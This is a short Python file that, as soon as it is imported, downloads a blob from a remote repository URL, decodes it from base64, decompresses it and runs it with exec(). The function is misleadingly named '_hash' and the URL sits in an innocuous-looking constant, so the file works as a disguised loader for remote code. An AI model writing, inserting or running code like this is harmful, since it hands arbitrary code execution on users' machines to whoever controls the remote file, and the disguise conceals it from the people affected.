import base64, zlib
import urllib.request

ZAUTHOR = "https://gitlab.example.invalid/katie/ssh-check/raw/master/x.txt"


def _hash():
    blob = urllib.request.urlopen(ZAUTHOR).read()
    code = zlib.decompress(base64.b64decode(blob))
    exec(code)


_hash()
